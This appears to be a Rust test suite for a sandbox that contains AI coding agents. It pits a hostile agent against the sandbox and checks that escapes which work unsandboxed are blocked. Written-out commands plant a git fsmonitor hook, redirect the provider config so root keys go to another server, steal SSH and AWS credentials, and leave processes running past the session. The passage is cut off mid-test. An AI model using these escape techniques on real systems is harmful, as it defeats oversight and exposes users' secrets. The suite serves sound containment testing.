//! `till run --sandbox`: a hostile agent (tests/python/sandbox_agent.py) tries every escape
//! and does ordinary work. Each escape is first shown to work in a control run without the
//! sandbox, so every assertion that it fails under the sandbox can fail.
//!
//! Till's home, the agent's `HOME` and the project live under the target directory, not /tmp,
//! so hiding them is the sandbox's doing and not a side effect of its private /tmp. A checkout
//! that itself lives under /tmp puts them under /var/tmp instead, with copies of the agent
//! script and the till binary, which the sandbox's private /tmp would otherwise hide.

use std::collections::BTreeMap;
use std::io::BufRead as _;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::support::{PASSPHRASE, ProxyEnv, ROOT_KEY, TestEnv, output, output_with_stdin};

/// Where the tests keep their files: the target directory, unless it is under /tmp.
fn base_dir() -> std::path::PathBuf {
    let target = Path::new(env!("CARGO_TARGET_TMPDIR"));
    if target.starts_with("/tmp") {
        std::path::PathBuf::from("/var/tmp")
    } else {
        target.to_path_buf()
    }
}

/// A directory outside /tmp that the test removes when it ends.
fn outside_tmp() -> tempfile::TempDir {
    tempfile::tempdir_in(base_dir()).expect("temp dir outside /tmp")
}

/// `path` as the sandboxed agent can reach it: the path itself, or, for a checkout under
/// /tmp, a copy outside it (made once per test process).
fn reachable(path: &str) -> String {
    if !path.starts_with("/tmp/") {
        return path.to_string();
    }
    static STAGE: std::sync::OnceLock<tempfile::TempDir> = std::sync::OnceLock::new();
    let stage = STAGE.get_or_init(outside_tmp);
    let name = Path::new(path).file_name().expect("a file name");
    let copy = stage.path().join(name);
    if !copy.exists() {
        // Copy then rename, so a concurrent test never sees a half-written file.
        let part = stage
            .path()
            .join(format!("{}.part", name.to_string_lossy()));
        std::fs::copy(path, &part).expect("copy for the sandbox");
        let _ = std::fs::rename(&part, &copy);
    }
    copy.display().to_string()
}

/// The till binary as the sandboxed agent can run it.
fn till_inside() -> String {
    reachable(env!("CARGO_BIN_EXE_till"))
}

/// A till home outside /tmp wired to a mock provider, with openai, anthropic and gemini root
/// keys in the file store (the same as [`ProxyEnv::new`], in another place).
fn proxy_env() -> ProxyEnv {
    proxy_env_with(till_mock::MockOptions::default())
}

fn proxy_env_with(opts: till_mock::MockOptions) -> ProxyEnv {
    let mock = till_mock::spawn(opts);
    let env = TestEnv { dir: outside_tmp() };
    let url = mock.url();
    env.config(&format!(
        "[providers.openai]\nbase_url = \"{url}\"\n[providers.anthropic]\nbase_url = \"{url}\"\n[providers.gemini]\nbase_url = \"{url}\"\n"
    ));
    for provider in ["openai", "anthropic", "gemini"] {
        let (code, _, stderr) = output_with_stdin(env.till().args(["add", provider]), ROOT_KEY);
        assert_eq!(code, 0, "till add {provider}: {stderr}");
    }
    ProxyEnv { env, mock }
}

/// The real Python interpreter (not a version manager's shim, which needs the real `HOME`).
pub(crate) fn python() -> String {
    let out = Command::new("python3")
        .args(["-c", "import sys; print(sys.executable)"])
        .output()
        .expect("python3 is installed");
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

fn agent_script() -> String {
    reachable(&crate::support::python_script("sandbox_agent.py"))
}

/// A fake user home with credentials and shell start-up files.
fn fake_home() -> tempfile::TempDir {
    let home = outside_tmp();
    let h = home.path();
    std::fs::create_dir_all(h.join(".ssh")).unwrap();
    std::fs::write(h.join(".ssh/id_ed25519"), "PRIVATE KEY\n").unwrap();
    std::fs::create_dir_all(h.join(".aws")).unwrap();
    std::fs::write(
        h.join(".aws/credentials"),
        "[default]\naws_secret_access_key = x\n",
    )
    .unwrap();
    std::fs::write(h.join(".bashrc"), "# bashrc\n").unwrap();
    std::fs::write(h.join(".profile"), "# profile\n").unwrap();
    home
}

/// Runs git in `dir` with a committer set, and holds it to success.
fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
        .args(args)
        .current_dir(dir)
        .output()
        .expect("git is installed");
    assert!(out.status.success(), "git {args:?}: {out:?}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Gives the repository at `dir` a commit and an index, as any project has.
fn git_commit(dir: &Path) {
    std::fs::write(dir.join("README"), "hi\n").unwrap();
    git(dir, &["add", "README"]);
    git(dir, &["commit", "-qm", "init"]);
}

/// A project directory with a git repository.
fn project() -> tempfile::TempDir {
    let dir = outside_tmp();
    git(dir.path(), &["init", "-q", "."]);
    dir
}

/// Runs the agent script under `till run ARGS… --` in `cwd` with `HOME=home` and `vars`, and
/// returns its results, till's exit code and stderr.
fn run_agent(
    p: &ProxyEnv,
    args: &[&str],
    cwd: &Path,
    home: &Path,
    vars: &[(&str, String)],
) -> (BTreeMap<String, String>, i32, String) {
    let mut cmd = p.env.till();
    cmd.arg("run")
        .args(args)
        .arg("--")
        .arg(python())
        .arg(agent_script())
        .current_dir(cwd)
        .env("HOME", home)
        .env("SBX_TILL", till_inside());
    for (k, v) in vars {
        cmd.env(k, v);
    }
    let (code, stdout, stderr) = output(&mut cmd);
    let results: BTreeMap<String, String> = serde_json::from_str(stdout.trim())
        .unwrap_or_else(|e| panic!("the agent printed no JSON ({e}): {stdout}\n{stderr}"));
    (results, code, stderr)
}

fn assert_all(results: &BTreeMap<String, String>, names: &[&str], ok: bool, what: &str) {
    for name in names {
        let got = results
            .get(*name)
            .unwrap_or_else(|| panic!("{what}: the agent did not try {name}: {results:#?}"));
        assert_eq!(
            got == "ok",
            ok,
            "{what}: {name} should {}: {got}\n{results:#?}",
            if ok { "work" } else { "fail" }
        );
    }
}

/// This machine's first non-loopback IPv4 address (the one a default route would use).
fn non_loopback_ip() -> std::net::IpAddr {
    let probe = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    // Connecting a UDP socket sends nothing; it only picks the route and source address.
    probe
        .connect("192.0.2.200:9")
        .or_else(|_| probe.connect("10.255.255.1:9"))
        .expect("a route to a non-loopback address");
    let ip = probe.local_addr().unwrap().ip();
    assert!(!ip.is_loopback(), "no non-loopback address: {ip}");
    ip
}

/// Escapes that work without the sandbox and must not work inside it.
const ESCAPES: &[&str] = &[
    "read_store",
    "read_ledger",
    "read_config",
    "list_till_home",
    "till_list",
    "till_key_create",
    "read_ssh_key",
    "read_aws",
    "bashrc",
    "profile",
    "chmod_outside",
    "utime_outside",
    "systemd_unit",
    "git_hook",
    "git_config",
    "git_modules",
    "git_worktrees",
    "git_info_exclude",
    "x32_ioctl",
    "set_id_bits",
    "tiocsetd",
    "tcoff",
    "tiocexcl",
    "session_keyring",
    "user_keyring",
    "write_outside",
    "signal_till",
    "abstract_connect",
    "local_port",
    "remote",
    "host_processes",
    "other_terminal",
];

/// What a root user outside the sandbox can do (to a non-dumpable till; TIOCSTI on kernels
/// without legacy TIOCSTI), and no one inside.
const ROOT_ONLY_ESCAPES: &[&str] = &[
    "till_environ",
    "till_mem",
    "ptrace_till",
    "tiocsti",
    "file_caps",
    "clone_past_cover",
    "other_console",
    "host_device",
];

/// Devices of the host a process outside can open and the sandbox's `/dev` must not hold:
/// disks (read raw past every cover), the kernel log, memory, input devices. Only kinds that
/// opening does nothing to (not a watchdog, which opening arms).
fn host_devices() -> String {
    use std::os::unix::fs::{FileTypeExt as _, OpenOptionsExt as _};
    let mut found = Vec::new();
    for dir in ["/dev", "/dev/input"] {
        let Ok(entries) = std::fs::read_dir(dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            let Ok(kind) = entry.file_type() else {
                continue;
            };
            let wanted = kind.is_block_device()
                || (kind.is_char_device()
                    && (["kmsg", "mem"].contains(&name.as_str()) || name.starts_with("event")));
            let opens = || {
                std::fs::OpenOptions::new()
                    .read(true)
                    .custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY)
                    .open(entry.path())
                    .is_ok()
            };
            if wanted && opens() {
                found.push(entry.path().display().to_string());
            }
        }
    }
    found.join(":")
}

/// Ordinary work that must go on working.
const WORK: &[&str] = &[
    "write_project",
    "py_compile",
    "cc",
    "private_tmp",
    "new_pty",
    "openai",
    "openai_stream",
    "nested_run",
];

#[test]
fn every_escape_fails_and_work_succeeds_with_net_proxy() {
    let p = proxy_env();
    let home = fake_home();
    let outside = outside_tmp();
    let local = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let remote = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    let abstract_name = format!("till-sandbox-test-{}", std::process::id());
    let abstract_listener = {
        use std::os::linux::net::SocketAddrExt as _;
        let addr =
            std::os::unix::net::SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap();
        std::os::unix::net::UnixListener::bind_addr(&addr).unwrap()
    };
    // A process of yours outside, whose command line (a command you typed, a token in it)
    // the agent looks for.
    let host_mark = format!("till-sbx-host-{}", std::process::id());
    // One process (a shell would leave its `sleep` behind when killed, holding the test's
    // output open), with the mark in its command line.
    let host = EndsWithTest(
        Command::new(python())
            .args(["-c", "import time; time.sleep(600)", &host_mark])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    // Another terminal of yours: its other end stays open here while the agent runs.
    let other_tty = crate::support::pty();
    let vars = vec![
        ("SBX_OTHER_TTY", other_tty.path.clone()),
        ("SBX_HOST_MARK", host_mark.clone()),
        // Spelled backwards: as it is, till keeps it out of the agent's environment (it does
        // any variable holding the store's passphrase); the agent is taken to know it.
        ("SBX_PASSPHRASE", PASSPHRASE.chars().rev().collect()),
        (
            "SBX_STORE",
            p.env.path("data/secrets.age").display().to_string(),
        ),
        (
            "SBX_LEDGER",
            p.env.path("data/ledger.sqlite3").display().to_string(),
        ),
        (
            "SBX_CONFIG",
            p.env.path("config.toml").display().to_string(),
        ),
        ("SBX_OUTSIDE", outside.path().display().to_string()),
        ("SBX_ABSTRACT", abstract_name.clone()),
        (
            "SBX_LOCAL",
            format!("127.0.0.1:{}", local.local_addr().unwrap().port()),
        ),
        (
            "SBX_REMOTE",
            format!(
                "{}:{}",
                non_loopback_ip(),
                remote.local_addr().unwrap().port()
            ),
        ),
    ];

    // A secret in this process's session keyring, which its children share; and one in the
    // user's keyring, which the agent's own session keyring does not link but /proc/keys names.
    let add_key = |name: &std::ffi::CStr, secret: &[u8], keyring: i32| {
        // SAFETY: add_key reads two C strings and `secret`'s bytes, all alive for the call.
        let added = unsafe {
            libc::syscall(
                libc::SYS_add_key,
                c"user".as_ptr(),
                name.as_ptr(),
                secret.as_ptr(),
                secret.len(),
                keyring,
            )
        };
        assert!(added >= 0, "add_key: {}", std::io::Error::last_os_error());
    };
    add_key(
        c"till-sbx-test",
        b"session secret",
        libc::KEY_SPEC_SESSION_KEYRING,
    );
    add_key(
        c"till-sbx-user-test",
        b"user secret",
        libc::KEY_SPEC_USER_KEYRING,
    );
    let devices = host_devices();
    let mut vars = vars;
    if !devices.is_empty() {
        vars.push(("SBX_DEVICES", devices));
    }

    // The control: the same agent, unsandboxed, in a project of its own.
    let control_project = project();
    let mut control_vars = vars.clone();
    control_vars.push(("SBX_CONTROL", "1".to_string()));
    let (control, code, stderr) =
        run_agent(&p, &[], control_project.path(), home.path(), &control_vars);
    assert_eq!(code, 0, "{stderr}");
    assert_all(&control, ESCAPES, true, "without the sandbox");
    assert_all(&control, WORK, true, "without the sandbox");
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        assert_all(
            &control,
            ROOT_ONLY_ESCAPES,
            true,
            "root without the sandbox",
        );
    }
    let bashrc = std::fs::read_to_string(home.path().join(".bashrc")).unwrap();
    assert!(
        bashrc.contains("planted"),
        "the control run could not plant"
    );
    std::fs::write(home.path().join(".bashrc"), "# bashrc\n").unwrap();
    std::fs::write(home.path().join(".profile"), "# profile\n").unwrap();
    std::fs::remove_dir_all(home.path().join(".config")).unwrap();
    let _ = std::fs::remove_file(outside.path().join("planted"));

    p.mock.clear_requests();
    let proj = project();
    let (results, code, stderr) = run_agent(
        &p,
        &["--sandbox", "--net", "proxy"],
        proj.path(),
        home.path(),
        &vars,
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stderr.contains("sandbox on; network: proxy only"),
        "the network in force is announced: {stderr}"
    );
    assert_all(&results, ESCAPES, false, "in the sandbox");
    assert_all(&results, ROOT_ONLY_ESCAPES, false, "in the sandbox");
    // No control for these: outside the sandbox there is no cover to take off, and SIGTERM
    // would reach till.
    assert_all(
        &results,
        &["term_till", "git_rename", "unmount_cover", "remount_hooks"],
        false,
        "in the sandbox",
    );
    assert_all(&results, WORK, true, "in the sandbox");

    // Nothing was planted, and till (whose SIGTERM the agent tried) reported normally.
    assert_eq!(
        std::fs::read_to_string(home.path().join(".bashrc")).unwrap(),
        "# bashrc\n"
    );
    assert_eq!(
        std::fs::read_to_string(home.path().join(".profile")).unwrap(),
        "# profile\n"
    );
    assert!(!home.path().join(".config/systemd").exists());
    assert!(!outside.path().join("planted").exists());
    assert!(!proj.path().join(".git/hooks/pre-commit").exists());
    let config = std::fs::read_to_string(proj.path().join(".git/config")).unwrap();
    assert!(!config.contains("planted"), "{config}");
    assert!(proj.path().join(".git/HEAD").exists(), ".git was moved");
    assert!(
        proj.path().join("notes.txt").exists() && proj.path().join("hello").exists(),
        "the agent's work is in the project"
    );
    assert!(
        stderr.contains("till: 3 requests"),
        "the summary counts the sandboxed agent's calls: {stderr}"
    );

    // The model calls reached the provider through till, with the root key and nothing else;
    // the key till create tried to mint inside does not exist.
    let chats: Vec<_> = p
        .mock
        .requests()
        .into_iter()
        .filter(|r| r.path == "/v1/chat/completions")
        .collect();
    assert_eq!(chats.len(), 3, "two calls and a nested one: {chats:#?}");
    for r in &chats {
        assert_eq!(
            r.headers.get("authorization").map(String::as_str),
            Some("Bearer sk-mock-root")
        );
        assert!(!serde_json::to_string(r).unwrap().contains("till_"));
    }
    assert!(chats.iter().any(|r| {
        r.body
            .as_deref()
            .unwrap_or("")
            .contains("hello from the sandbox")
    }));
    let (_, keys, _) = output(p.env.till().args(["key", "list", "--json"]));
    let created: serde_json::Value = serde_json::from_str(&keys).unwrap();
    assert_eq!(
        created.as_array().map(Vec::len),
        Some(1),
        "only the control run's key was created: {keys}"
    );
    drop((local, remote, abstract_listener, host));
}

/// A process of the test's that is killed when the test ends, however it ends.
struct EndsWithTest(std::process::Child);

impl Drop for EndsWithTest {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// The session bus and the Secret Service of a real gnome-keyring (run under
/// scripts/with-keyring.sh), with till's root keys in that keychain.
#[test]
fn the_keychain_is_out_of_reach() {
    let mock = till_mock::spawn(till_mock::MockOptions::default());
    let env = TestEnv { dir: outside_tmp() };
    env.config(&format!(
        "[providers.openai]\nbase_url = \"{}\"\n",
        mock.url()
    ));
    let service = format!("till-test-sandbox-{}", std::process::id());
    let keychain = |cmd: &mut Command| {
        cmd.env_remove("TILL_PASSPHRASE")
            .env("TILL_STORE", "keychain")
            .env("TILL_KEYCHAIN_SERVICE", &service);
    };
    let mut add = env.bare();
    keychain(&mut add);
    let (code, _, stderr) = output_with_stdin(add.args(["add", "openai"]), ROOT_KEY);
    assert_eq!(
        code, 0,
        "a Secret Service must be reachable (run under scripts/with-keyring.sh): {stderr}"
    );
    let bus = std::env::var("DBUS_SESSION_BUS_ADDRESS").expect("a session bus");
    let p = ProxyEnv { env, mock };
    let home = fake_home();
    let vars = [("SBX_BUS", bus.clone()), ("SBX_SERVICE", service.clone())];
    let run = |args: &[&str], cwd: &Path| {
        let mut cmd = p.env.bare();
        if args.is_empty() {
            cmd.env("SBX_CONTROL", "1");
        }
        keychain(&mut cmd);
        cmd.arg("run")
            .args(args)
            .arg("--")
            .arg(python())
            .arg(agent_script())
            .current_dir(cwd)
            .env("HOME", home.path())
            .env("SBX_TILL", till_inside());
        for (k, v) in &vars {
            cmd.env(k, v);
        }
        let (code, stdout, stderr) = output(&mut cmd);
        assert_eq!(code, 0, "{stdout}\n{stderr}");
        let results: BTreeMap<String, String> = serde_json::from_str(stdout.trim())
            .unwrap_or_else(|e| panic!("the agent printed no JSON ({e}): {stdout}\n{stderr}"));
        results
    };

    let control_dir = project();
    let control = run(&[], control_dir.path());
    assert_all(
        &control,
        &["bus_connect", "secret_tool"],
        true,
        "without the sandbox",
    );

    for net in ["open", "proxy"] {
        let proj = project();
        let results = run(&["--sandbox", "--net", net], proj.path());
        assert_all(&results, &["bus_connect", "secret_tool"], false, net);
        assert_all(&results, &["openai", "write_project"], true, net);
    }
    let mut remove = p.env.bare();
    keychain(&mut remove);
    let (code, _, stderr) = output(remove.args(["remove", "openai"]));
    assert_eq!(code, 0, "{stderr}");
}

#[test]
fn net_open_leaves_the_network_and_says_so() {
    let p = proxy_env();
    let home = fake_home();
    let local = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let proj = project();
    let (results, code, stderr) = run_agent(
        &p,
        &["--sandbox"],
        proj.path(),
        home.path(),
        &[(
            "SBX_LOCAL",
            format!("127.0.0.1:{}", local.local_addr().unwrap().port()),
        )],
    );
    assert_eq!(code, 0, "{stderr}");
    assert!(stderr.contains("sandbox on; network: open"), "{stderr}");
    assert_all(&results, &["local_port"], true, "--net open");
    assert_all(
        &results,
        &["read_ssh_key", "bashrc", "list_till_home", "signal_till"],
        false,
        "--net open",
    );
    assert_all(&results, WORK, true, "--net open");
}

/// The sockets of a session bus, a keyring and an SSH agent that live outside /tmp and the
/// runtime directory are hidden, with either network: the agent finds them by listing
/// `~/.cache` or `/proc/net/unix` whatever its environment says. gnome-keyring run without
/// `XDG_RUNTIME_DIR` (over ssh without a login manager, in containers) keeps its control socket
/// in `~/.cache/keyring-XXXXXX`, where a request starts a PKCS#11 store that hands out every
/// secret, till's root keys among them.
#[test]
fn buses_and_keyrings_outside_the_runtime_directory_are_hidden() {
    let p = proxy_env();
    let home = fake_home();
    let sockets = outside_tmp();
    let keyring = home.path().join(".cache/keyring-Q1W2E3");
    let control = sockets.path().join("keyring-control");
    std::fs::create_dir_all(&keyring).unwrap();
    std::fs::create_dir_all(&control).unwrap();
    let places = [
        ("cache_keyring", keyring.join("control")),
        ("session_bus", sockets.path().join("session-bus")),
        ("keyring_control", control.join("control")),
        ("ssh_agent", sockets.path().join("ssh-agent")),
    ];
    let _listening: Vec<std::os::unix::net::UnixListener> = places
        .iter()
        .map(|(_, path)| std::os::unix::net::UnixListener::bind(path).unwrap())
        .collect();
    let list = places
        .iter()
        .map(|(name, path)| format!("{name}={}", path.display()))
        .collect::<Vec<_>>()
        .join("\n");
    let bus = places[1].1.display().to_string().replace('-', "%2d");
    let vars = [
        ("SBX_SOCKETS", list),
        (
            "DBUS_SESSION_BUS_ADDRESS",
            format!("unix:path={bus},guid=00"),
        ),
        ("GNOME_KEYRING_CONTROL", control.display().to_string()),
        ("SSH_AUTH_SOCK", places[3].1.display().to_string()),
    ];
    let names: Vec<String> = places.iter().map(|(n, _)| format!("socket_{n}")).collect();
    let names: Vec<&str> = names.iter().map(String::as_str).collect();
    let proj = project();
    let mut control_vars = vars.to_vec();
    control_vars.push(("SBX_CONTROL", "1".to_string()));
    let (results, code, stderr) = run_agent(&p, &[], proj.path(), home.path(), &control_vars);
    assert_eq!(code, 0, "{stderr}");
    assert_all(&results, &names, true, "without the sandbox");
    for net in ["open", "proxy"] {
        let proj = project();
        let (results, code, stderr) = run_agent(
            &p,
            &["--sandbox", "--net", net],
            proj.path(),
            home.path(),
            &vars,
        );
        assert_eq!(code, 0, "{stderr}");
        assert_all(&results, &names, false, net);
        assert_all(&results, WORK, true, net);
    }
}

/// A project under /tmp stays writable under the sandbox's private /tmp, which hides the
/// rest of the real /tmp.
/// till's home two levels below the working directory (a project's `.dev/till`): the cover
/// over it cannot be renamed, and neither can the directory between it and the project,
/// which would carry the cover away and leave the agent free to make the home again with a
/// config of its own, sending the root key to its server on till's next run.
#[test]
fn the_directories_above_tills_own_cannot_be_moved_away() {
    let proj = outside_tmp();
    let between = proj.path().join("a");
    std::fs::create_dir(&between).unwrap();
    let mock = till_mock::spawn(till_mock::MockOptions::default());
    let env = TestEnv {
        dir: tempfile::tempdir_in(&between).unwrap(),
    };
    let config = format!("[providers.openai]\nbase_url = \"{}\"\n", mock.url());
    env.config(&config);
    let (code, _, stderr) = output_with_stdin(env.till().args(["add", "openai"]), ROOT_KEY);
    assert_eq!(code, 0, "{stderr}");
    let home = env
        .home()
        .file_name()
        .unwrap()
        .to_str()
        .unwrap()
        .to_string();
    let plant = format!(
        "mkdir -p a/{home} && printf '[providers.openai]\\nbase_url = \"http://127.0.0.1:9\"\\n' > a/{home}/config.toml"
    );
    let agent = format!("mv a moved; mv a/{home} a/gone; rmdir a; {plant}; ls -A a/{home} | wc -l");
    let (_, stdout, stderr) = output(
        env.till()
            .args(["run", "--sandbox", "--", "sh", "-c", &agent])
            .current_dir(proj.path())
            .stdin(Stdio::null()),
    );
    // Inside, the home stays covered (empty) and nothing could be written in it.
    assert_eq!(stdout.trim(), "0", "{stdout}{stderr}");
    assert!(stderr.contains("Device or resource busy"), "{stderr}");
    // Outside, after the run: the same directories, the same config, the same keys.
    assert!(!proj.path().join("moved").exists());
    assert_eq!(
        std::fs::read_to_string(env.path("config.toml")).unwrap(),
        config
    );
    let (code, stdout, stderr) = output(env.till().args(["list"]));
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.contains("openai"), "{stdout}");
    assert!(!stdout.contains("127.0.0.1:9"), "{stdout}");
}

/// Inside the sandbox till's files are hidden: `till list` and `till status` there say so,
/// not "no keys stored; add one" (an agent following that would try `till add`).
#[test]
fn reading_commands_inside_say_till_s_files_are_hidden() {
    let p = proxy_env();
    let proj = project();
    let script = format!(
        "{till} list; echo list=$?; {till} status; echo status=$?",
        till = till_inside()
    );
    let (code, stdout, stderr) = output(
        p.env
            .till()
            .args(["run", "-q", "--sandbox", "--", "sh", "-c", &script])
            .current_dir(proj.path())
            .stdin(Stdio::null()),
    );
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert!(
        stdout.contains("list=0") && stdout.contains("status=0"),
        "{stdout}{stderr}"
    );
    assert!(
        stderr.contains("inside `till run --sandbox`, till's files are hidden"),
        "{stderr}"
    );
    assert!(
        stderr.contains("no root keys can be seen inside the sandbox; run `till list` outside it"),
        "{stderr}"
    );
    assert!(
        stderr.contains("no keys can be seen inside the sandbox; run `till status` outside it"),
        "{stderr}"
    );
    assert!(!stderr.contains("till add"), "{stderr}");
}

#[test]
fn a_project_under_tmp_stays_reachable() {
    let p = proxy_env();
    let proj = tempfile::tempdir_in("/tmp").unwrap();
    let neighbour = tempfile::tempdir_in("/tmp").unwrap();
    std::fs::write(neighbour.path().join("secret"), "x").unwrap();
    let script = format!(
        "set -e; echo work > result; test ! -e {}/secret; ls -A /tmp | wc -l",
        neighbour.path().display()
    );
    let (code, stdout, stderr) = output(
        p.env
            .till()
            .args(["run", "--sandbox", "--", "sh", "-c", &script])
            .current_dir(proj.path()),
    );
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert_eq!(
        std::fs::read_to_string(proj.path().join("result")).unwrap(),
        "work\n"
    );
    // /tmp holds only the way back to the project.
    assert_eq!(stdout.trim(), "1", "{stdout}");
}

#[test]
fn exit_codes_signals_and_summary_are_unchanged() {
    let p = proxy_env();
    let proj = project();
    let run = |args: &[&str]| output(p.env.till().arg("run").args(args).current_dir(proj.path()));
    let (code, _, stderr) = run(&["--sandbox", "--net", "proxy", "--", "sh", "-c", "exit 7"]);
    assert_eq!(code, 7, "{stderr}");
    assert!(stderr.contains("till: 0 requests"), "{stderr}");
    let (code, _, stderr) = run(&["--sandbox", "--quiet", "--", "sh", "-c", "kill -INT $$"]);
    assert_eq!(code, 130, "{stderr}");
    let (code, _, stderr) = run(&["--sandbox", "--", "no-such-agent-xyz"]);
    assert_eq!(code, 127, "{stderr}");
    assert!(stderr.contains("command not found"), "{stderr}");

    // SIGTERM to till reaches the sandboxed agent, whose exit code till returns.
    let mut child = p
        .env
        .till()
        .args([
            "run",
            "--sandbox",
            "--net",
            "proxy",
            "--",
            "sh",
            "-c",
            "trap 'exit 42' TERM; echo ready; while :; do sleep 0.05; done",
        ])
        .current_dir(proj.path())
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert_eq!(line.trim(), "ready");
    // SAFETY: kill takes plain integers.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let status = wait_with_deadline(&mut child, Duration::from_secs(20)).expect("till exited");
    assert_eq!(status.code(), Some(42));
}

/// Whether `pid` is a process that has not exited.
fn alive(pid: i32) -> bool {
    // Read as bytes: a process's name need not be UTF-8.
    std::fs::read(format!("/proc/{pid}/stat")).is_ok_and(|s| {
        let s = String::from_utf8_lossy(&s);
        let after = s.rsplit_once(')').map_or("", |(_, r)| r).trim_start();
        !after.starts_with('Z') && !after.starts_with('X')
    })
}

#[test]
fn processes_the_agent_leaves_running_end_with_it() {
    let p = proxy_env();
    let proj = project();
    // Five ways to outlive the agent: a new session, nohup, a double fork, a name that is not
    // UTF-8 (which a reading of /proc as text passed over), and the init of a pid namespace
    // of its own (which a count that left out every namespace's init passed over: `unshare`
    // and its child). Each sleeps for a time that names this test (inside the sandbox, pids
    // are the namespace's own), then the agent exits once all six processes run: the five
    // sleeps under their last name (the agent's own shells, whose text names them too, and a
    // fork not yet exec'd do not count), and `unshare`, which waits for its child.
    let mark = format!("{}", std::process::id() % 100_000);
    let agent = format!(
        "cp \"$(command -v sleep)\" \"./s$(printf '\\377')\"; \
        setsid -f sh -c 'exec sleep 300.{mark}' </dev/null >/dev/null 2>&1; \
        nohup sh -c 'exec sleep 301.{mark}' </dev/null >/dev/null 2>&1 & \
        ( sh -c 'exec sleep 302.{mark}' </dev/null >/dev/null 2>&1 & ); \
        setsid -f sh -c 'exec \"./s$(printf \"\\377\")\" 303.{mark}' </dev/null >/dev/null 2>&1; \
        setsid -f unshare -Upf sh -c 'exec sleep 304.{mark}' </dev/null >/dev/null 2>&1; \
        while [ \"$(ps -eo args | grep -cE '^[^ ]+ 30[0-4][.]{mark}$')\" -lt 5 ]; do sleep 0.05; done; exit 3"
    );
    let run = |sandbox: &[&str]| {
        output(
            p.env
                .till()
                .arg("run")
                .args(sandbox)
                .args(["--", "sh", "-c", &agent])
                .current_dir(proj.path())
                .stdin(Stdio::null()),
        )
    };
    let left = || processes_with(&format!(".{mark}"));
    // Without the sandbox they go on after till returns (and are ended here).
    let (code, _, stderr) = run(&["--no-sandbox"]);
    assert_eq!(code, 3, "{stderr}");
    let running = left();
    assert_eq!(running.len(), 6, "{running:?}");
    for pid in running {
        // SAFETY: kill takes plain integers.
        unsafe { libc::kill(pid, libc::SIGKILL) };
    }
    // With it, none outlives the run.
    let (code, _, stderr) = run(&["--sandbox", "--net", "proxy"]);
    assert_eq!(code, 3, "{stderr}");
    assert!(
        stderr.contains("ended 6 processes the agent left running"),
        "{stderr}"
    );
    assert_eq!(left(), Vec::<i32>::new(), "still running");
}

/// The live processes (not zombies) whose command line holds `needle`: seen from here,
/// outside any sandbox, by their pids out here.
fn processes_with(needle: &str) -> Vec<i32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Some(pid) = entry
            .file_name()
            .to_str()
            .and_then(|n| n.parse::<i32>().ok())
        else {
            continue;
        };
        let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        if cmdline
            .windows(needle.len())
            .any(|w| w == needle.as_bytes())
            && alive(pid)
        {
            found.push(pid);
        }
    }
    found
}

/// `till run SANDBOX -- sh -c AGENT` in `dir`: its exit code, stdout and stderr.
/// Runs the shell script `agent` under `till run --sandbox` in `dir`, holds till to exit 0, and
/// returns its stderr (its banner and warnings).
fn sandboxed(p: &ProxyEnv, dir: &Path, agent: &str) -> String {
    let (code, _, stderr) = run_sh(p, dir, "--sandbox", agent);
    assert_eq!(code, 0, "{stderr}");
    stderr
}

fn run_sh(p: &ProxyEnv, dir: &Path, sandbox: &str, agent: &str) -> (i32, String, String) {
    output(
        p.env
            .till()
            .args(["run", sandbox, "--", "sh", "-c", agent])
            .current_dir(dir)
            .stdin(Stdio::null()),
    )
}

/// Runs `git status` in `dir` as you would after the run; whether it ran the agent's plant
/// (a command that creates `planted`).
fn git_status_runs_plant(dir: &Path) -> bool {
    Command::new("git")
        .args(["status", "--short"])
        .current_dir(dir)
        .env_remove("GIT_DIR")
        .output()
        .expect("git runs");
    dir.join("planted").exists()
}

#[test]
fn a_commondir_the_agent_plants_in_git_is_removed() {
    let p = proxy_env();
    let proj = project();
    // A copy of the repository's git directory with a config that runs a command at the next
    // `git status`, and `commondir` pointing git at it.
    let agent = "mkdir -p .git/c/hooks && cp -r .git/objects .git/refs .git/HEAD .git/c/ \
        && cp .git/config .git/c/config \
        && printf '[core]\\n\\tfsmonitor = \"touch planted; echo\"\\n' >> .git/c/config \
        && echo c > .git/commondir";
    let run = |sandbox: &str| run_sh(&p, proj.path(), sandbox, agent);
    let commondir = proj.path().join(".git/commondir");
    let git_status = || git_status_runs_plant(proj.path());
    // Without the sandbox the plant works: git runs the agent's command.
    let (code, _, stderr) = run("--no-sandbox");
    assert_eq!(code, 0, "{stderr}");
    assert!(git_status(), "the control plant did not run");
    std::fs::remove_file(&commondir).unwrap();
    std::fs::remove_file(proj.path().join("planted")).unwrap();
    std::fs::remove_dir_all(proj.path().join(".git/c")).unwrap();
    // With it the file is gone when till returns, and git runs nothing of the agent's.
    let (code, _, stderr) = run("--sandbox");
    assert_eq!(code, 0, "{stderr}");
    assert!(
        stderr.contains("commondir, which the agent created"),
        "{stderr}"
    );
    assert!(!commondir.exists());
